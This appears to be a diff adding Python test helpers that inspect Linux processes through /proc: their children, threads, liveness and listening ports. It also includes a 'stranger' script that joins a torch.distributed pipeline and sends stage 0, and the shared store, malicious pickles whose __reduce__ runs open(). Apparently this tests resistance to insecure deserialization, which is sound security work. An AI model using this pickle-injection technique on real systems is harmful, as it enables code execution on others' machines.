@@ -1,0 +1,80 @@
+"""Processes seen from outside (Linux): their children, whether they live, where they listen. And a
+stranger who joins a pipeline.
+"""
+
+import os
+import time
+from collections.abc import Callable, Iterable
+from pathlib import Path
+
+# He takes a stage's place, and sends stage 0 pickles that would make the file that he is given.
+STRANGER = """
+import datetime, pickle, sys
+import torch
+import torch.distributed as dist
+
+class Bomb:
+    def __reduce__(self):
+        return open, (sys.argv[1], "w")
+
+dist.init_process_group("gloo", timeout=datetime.timedelta(seconds=15))
+control = dist.new_group(backend="gloo")
+data = torch.frombuffer(bytearray(pickle.dumps(Bomb())), dtype=torch.uint8)
+for _ in range(6):
+    dist.isend(torch.tensor([len(data), 0]), 0, group=control).wait()
+    dist.isend(data, 0, group=control).wait()
+    store = dist.distributed_c10d._get_default_store()
+    for key in ("0", "1", "plan", "0/1"):
+        store.set(key, pickle.dumps(Bomb()))
+"""
+
+
+def children_of(parent: int) -> list[int]:
+    """Process ids; none where the process has ended."""
+    try:
+        words = Path(f"/proc/{parent}/task/{parent}/children").read_text(encoding="utf-8")
+    except (FileNotFoundError, ProcessLookupError):
+        return []
+    return [int(word) for word in words.split()]
+
+
+def threads_of(pid: int) -> list[str]:
+    """Their names."""
+    return [
+        name.read_text(encoding="utf-8").strip()
+        for name in Path(f"/proc/{pid}/task").glob("*/comm")
+    ]
+
+
+def alive(pid: int) -> bool:
+    """Whether a process runs. One that has ended may wait for its parent to ask."""
+    try:
+        state = Path(f"/proc/{pid}/stat").read_text(encoding="utf-8")
+    except (FileNotFoundError, ProcessLookupError):
+        return False
+    return state.rpartition(")")[2].split()[0] != "Z"
+
+
+def wait_for(what: Callable[[], object], seconds: float = 100.0) -> None:
+    """Wait until it is so. seconds: far more than it takes, also on a busy machine."""
+    deadline = time.monotonic() + seconds
+    while not what():
+        assert time.monotonic() < deadline
+        time.sleep(0.01)
+
+
+def listening(pids: Iterable[int]) -> set[tuple[str, int]]:
+    """(address, port) at which processes wait for TCP connections; addresses as Linux has them."""
+    owned, found = set(), set()
+    for pid in pids:
+        try:
+            owned |= {os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")}
+        except OSError:  # it has ended, or closed one
+            continue
+    for table in ("tcp", "tcp6"):
+        for line in Path(f"/proc/net/{table}").read_text(encoding="utf-8").splitlines()[1:]:
+            cells = line.split()
+            if cells[3] == "0A" and f"socket:[{cells[9]}]" in owned:
+                address, _, port = cells[1].partition(":")
+                found.add((address, int(port, 16)))
+    return found
